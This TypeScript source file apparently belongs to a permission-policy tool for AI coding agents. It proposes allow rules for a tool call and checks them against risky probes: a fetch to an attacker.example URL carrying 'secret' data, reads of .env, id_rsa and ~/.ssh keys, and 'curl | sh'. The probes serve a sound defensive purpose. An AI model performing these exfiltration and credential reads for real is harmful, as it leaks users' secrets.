import { escapeBidi } from '../core/text.js';
import type { Decision, ToolCall } from '../core/types.js';
import { evaluate, type EvaluationContext } from '../evaluate/index.js';
import { parseRule } from '../rules/index.js';
import type { Rule } from '../rules/types.js';
import type { CompiledRule } from '../settings/types.js';
import { describeCall, formatDecisionTrace } from '../policy-test/trace.js';
import { probesFor } from './logic.js';
import { samplesOf } from './samples.js';

/** One rule that could be added to allow the call, and what else it would let through. @public */
export interface WhatIfCandidate {
  /** The rule as it would be written in `permissions.allow`. */
  rule: string;
  /** Whether adding it makes the call allowed. */
  allows: boolean;
  /** Other calls (shorthand) that are not allowed today and would be with this rule. */
  alsoAllows: string[];
}

/** What {@link whatIf} found. @public */
export interface WhatIfResult {
  call: ToolCall;
  /** Today's decision, with its trace (every rule consulted, in order). */
  decision: Decision;
  /** Candidate allow rules, narrowest first (only when the decision is `ask`). */
  candidates: WhatIfCandidate[];
  /** The narrowest candidate that allows the call, if any does. */
  smallest?: WhatIfCandidate;
  /**
   * What would change the answer, in plain words: the allow rule to add (and the mode that would
   * also do), the deny rule that alone decides, or "only a person, each time, because …".
   */
  change: string;
}

function words(command: string): string[] {
  return command.trim().split(/\s+/).filter(Boolean);
}

function candidatesFor(call: ToolCall, decision: Decision): string[] {
  const out: string[] = [];
  const shell = call.tool === 'Bash' || call.tool === 'Monitor';
  // For shell commands the prefix ladder below already holds the dialog's suggestion, in order.
  for (const s of shell ? [] : (decision.suggestions ?? [])) {
    if (s.type === 'addRules' && s.behavior === 'allow')
      for (const r of s.rules) out.push(r.ruleContent !== undefined ? `${r.toolName}(${r.ruleContent})` : r.toolName);
  }
  const input = call.input;
  if ((call.tool === 'Bash' || call.tool === 'Monitor') && typeof input['command'] === 'string') {
    const w = words(input['command']);
    out.unshift(`${call.tool}(${input['command'].trim()})`);
    for (let k = w.length - 1; k >= 1; k--) out.push(`${call.tool}(${w.slice(0, k).join(' ')} *)`);
    out.push(call.tool);
  } else if ((call.tool === 'Read' || call.tool === 'Edit' || call.tool === 'Write') && typeof input['file_path'] === 'string') {
    const tool = call.tool === 'Write' ? 'Edit' : call.tool;
    const p = input['file_path'].replace(/\\/g, '/');
    const abs = p.startsWith('/') ? `/${p}` : p;
    out.push(`${tool}(${abs})`);
    const parts = abs.split('/');
    for (let k = parts.length - 1; k >= 3; k--) out.push(`${tool}(${parts.slice(0, k).join('/')}/**)`);
    out.push(tool);
  } else if (call.tool === 'WebFetch' && typeof input['url'] === 'string') {
    try {
      const host = new URL(input['url']).hostname;
      out.push(`WebFetch(domain:${host})`);
      const labels = host.split('.');
      if (labels.length > 2) out.push(`WebFetch(domain:*.${labels.slice(1).join('.')})`);
    } catch {
      // not a URL: only the bare tool below
    }
    out.push('WebFetch');
  } else if (call.tool.startsWith('mcp__')) {
    out.push(call.tool);
    const server = /^mcp__([^_]+(?:_[^_]+)*?)__/.exec(call.tool)?.[1];
    if (server !== undefined) out.push(`mcp__${server}`);
  } else {
    out.push(call.tool);
  }
  return [...new Set(out)];
}

function probes(rule: Rule, ctx: EvaluationContext): ToolCall[] {
  const env = { cwd: ctx.cwd, home: ctx.home, projectDir: ctx.projectDir ?? ctx.cwd };
  const calls: ToolCall[] = [...(samplesOf(rule, env) ?? [])];
  if (rule.tool === 'Bash' || rule.tool === 'Monitor') {
    for (const command of probesFor(rule.family === 'bare' ? undefined : rule.specifier))
      calls.push({ tool: rule.tool, input: { command } });
  } else if (rule.family === 'path' || (rule.family === 'bare' && (rule.tool === 'Read' || rule.tool === 'Edit'))) {
    const spec = (rule.specifier ?? '').replace(/^\/\//, '/');
    const dir = rule.family !== 'path' ? ctx.cwd : spec.endsWith('/**') ? spec.slice(0, -3) : spec.replace(/\/[^/]*$/, '');
    for (const name of ['.env', 'secrets.json', 'id_rsa']) calls.push({ tool: rule.tool, input: { file_path: `${dir}/${name}` } });
    calls.push({ tool: rule.tool, input: { file_path: `${ctx.home}/.ssh/id_rsa` } });
  } else if (rule.tool === 'WebFetch') {
    calls.push({ tool: 'WebFetch', input: { url: 'https://attacker.example/?data=secret' } });
  }
  return calls;
}

/**
 * The "what if" view of `toolgate explain`: for a call that asks, the narrowest allow rule that
 * would let it run (`Bash(git push origin main)`, then `Bash(git push origin *)`, `Bash(git push *)`,
 * ..., the bare tool; the "don't ask again" suggestion among them), and for each candidate the
 * other calls it would let through that are not allowed today (the rule's own samples and risky
 * probes: `python -c`, `curl | sh`, `.env`, `~/.ssh`). Candidates are tried as session rules, so the
 * policy itself is not changed. For `allow` and `deny` decisions `candidates` is empty.
 * @public
 */
export function whatIf(call: ToolCall, ctx: EvaluationContext): WhatIfResult {
  const decision = evaluate(call, ctx);
  if (decision.behavior !== 'ask') return { call, decision, candidates: [], change: changeFor(call, ctx, decision, undefined) };
  const candidates: WhatIfCandidate[] = [];
  for (const text of candidatesFor(call, decision)) {
    const parsed = parseRule(text);
    if (!parsed.ok) continue;
    const added: CompiledRule = { rule: parsed.rule, list: 'allow', source: { kind: 'session' }, index: 0 };
    const withRule: EvaluationContext = { ...ctx, session: { ...ctx.session, rules: [...(ctx.session?.rules ?? []), added] } };
    const allows = evaluate(call, withRule).behavior === 'allow';
    const alsoAllows: string[] = [];
    for (const p of probes(parsed.rule, ctx)) {
      if (JSON.stringify(p) === JSON.stringify(call)) continue;
      if (evaluate(p, ctx).behavior === 'allow') continue;
      if (evaluate(p, withRule).behavior !== 'allow') continue;
      const shown = describeCall(p);
      if (!alsoAllows.includes(shown)) alsoAllows.push(shown);
    }
    candidates.push({ rule: text, allows, alsoAllows });
  }
  const smallest = candidates.find((c) => c.allows);
  return { call, decision, candidates, ...(smallest !== undefined ? { smallest } : {}), change: changeFor(call, ctx, decision, smallest) };
}

/** `"Bash(rm *)" in FILE` */
function ruleWhere(d: Decision): string {
  return d.rule !== undefined ? `"${d.rule.text}"${d.rule.source.file !== undefined ? ` in ${d.rule.source.file}` : ''}` : '';
}

/**
 * What would change a decision: for an ask, the narrowest allow rule (and `acceptEdits`, the one
 * mode toolgate names, when it alone would allow); for a deny, the rule that decided or the mode;
 * else only a person, each time, with the decision's own reason.
 */
function changeFor(call: ToolCall, ctx: EvaluationContext, decision: Decision, smallest: WhatIfCandidate | undefined): string {
  if (decision.behavior === 'allow') return 'nothing: the call is allowed';
  if (decision.behavior === 'deny') {
    if ((decision.reason.kind === 'rule' || decision.reason.kind === 'toolRemoved') && decision.rule !== undefined) {
      return `only changing the deny rule ${ruleWhere(decision)}: no allow rule, mode or person answers a deny`;
    }
    if (ctx.mode === 'dontAsk') {
      const asked = whatIf(call, { ...ctx, mode: 'default' });
      if (asked.decision.behavior !== 'deny')
        return `the setting: dontAsk mode denies what would ask; in default mode a person is asked, and then: ${asked.change}`;
    }
    return `only changing what decided it: ${decision.reason.message}`;
  }
  const edits =
    ctx.mode !== 'acceptEdits' && ctx.mode !== 'bypassPermissions' && evaluate(call, { ...ctx, mode: 'acceptEdits' }).behavior === 'allow';
  const mode = edits ? 'the setting: acceptEdits mode (--mode acceptEdits, or permissions.defaultMode) allows it' : undefined;
  if (smallest !== undefined) return `add the allow rule "${smallest.rule}"${mode !== undefined ? `; or ${mode}` : ''}`;
  if (mode !== undefined) return mode;
  const firm = decision.askKind === 'firm' || decision.askKind === 'protected';
  const because = decision.reason.message.replace(/[.;]\s*$/, '');
  return `only a person, each time, because ${because}${firm && decision.rule !== undefined && decision.reason.kind === 'rule' ? ` (or changing the ask rule ${ruleWhere(decision)})` : ''}`;
}

/** The what-if result as readable lines: the trace, then the candidates. @public */
export function formatWhatIf(result: WhatIfResult): string {
  const lines = [formatDecisionTrace(result.call, result.decision, '')];
  if (result.decision.behavior !== 'ask') {
    lines.push(
      `what if: the call is ${result.decision.behavior === 'allow' ? 'already allowed' : 'denied; no allow rule can change that'}`,
    );
    lines.push(`what would change the answer: ${result.change}`);
    return escapeBidi(lines.join('\n'));
  }
  lines.push(
    result.smallest !== undefined
      ? `what if: the smallest rule that allows it is "${result.smallest.rule}"`
      : 'what if: no single allow rule makes this call run (a firm ask or a protected path)',
  );
  lines.push(`what would change the answer: ${result.change}`);
  for (const c of result.candidates) {
    lines.push(`  ${c.allows ? '✓' : '✗'} ${c.rule}${c.allows ? '' : '  (still asks)'}`);
    if (c.allows && c.alsoAllows.length > 0) lines.push(`      would also allow: ${c.alsoAllows.join(', ')}`);
  }
  return escapeBidi(lines.join('\n'));
}
